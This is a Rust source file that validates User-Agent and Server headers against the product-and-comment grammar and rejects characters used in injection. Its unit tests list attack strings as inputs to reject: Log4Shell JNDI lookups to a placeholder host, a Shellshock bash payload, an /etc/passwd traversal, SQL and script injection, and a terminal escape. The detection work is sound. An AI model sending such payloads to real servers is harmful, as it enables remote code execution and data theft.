//! The grammar of User-Agent and Server headers.

/// Whether a User-Agent or Server header is what software sends: products and comments (RFC 9110, sections 10.1.5 and
/// 10.2.4). Comments with characters that shells, templates, SQL and markup interpret are not.
pub(crate) fn is_product_list(text: &[u8]) -> bool {
    let (mut depth, mut has_version) = (0_usize, false);
    text.iter().all(|byte| match (byte, depth) {
        (b'(', _) => {
            depth = depth.saturating_add(1);
            has_version = false;
            true
        }
        (b')', 1..) => {
            depth = depth.saturating_sub(1);
            true
        }
        (byte, 1..) => !br#"$<>{}\'"`"#.contains(byte),
        (b' ' | b'\t', 0) => {
            has_version = false;
            true
        }
        (b'/', 0) => !std::mem::replace(&mut has_version, true),
        (byte, 0) => byte.is_ascii_alphanumeric() || b"!#%&*+-.^_|~".contains(byte),
    })
}

#[cfg(test)]
mod tests {
    use super::is_product_list;

    #[test]
    fn products_and_comments_are_those_of_software() {
        for text in [
            "",
            "nginx",
            "curl/8.5.0",
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
            "Mozilla/5.0 (Linux; Android 14; Moto (2) Build/A.1/2; wv) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36",
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/4.0 (compatible; MSIE 7.0; cut",
            "Apache/2.4.6 (CentOS) OpenSSL/1.0.2k-fips mod_perl/2.0.11 Perl/v5.16.3",
            "Jetty(9.4.57.v20241219)",
            "Zope/(2.13, python 2.6, linux2) ZServer/1.1",
            "Xperia (\u{2122})",
        ] {
            assert!(is_product_list(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn attacks_are_not_those_of_software() {
        for text in [
            "jndi:ldap://192.0.2.1:1389/a",
            "${jndi:ldap://192.0.2.1/a}",
            "Mozilla/5.0 (${jndi:dns://192.0.2.1/a}) Gecko/20100101 Firefox/115.0",
            "() { :; }; /bin/bash -c id",
            "Firefox/115.0 ../../etc/passwd",
            "Firefox/115.0' OR 1=1 --",
            "Firefox/115.0 (\" onload=\"x)",
            "Firefox/115.0 <script>",
            "Firefox/115.0 (`id`)",
            "Firefox/115.0)",
            "Firefox/115.0\u{1b}[2J",
        ] {
            assert!(!is_product_list(text.as_bytes()), "{text}");
        }
    }
}
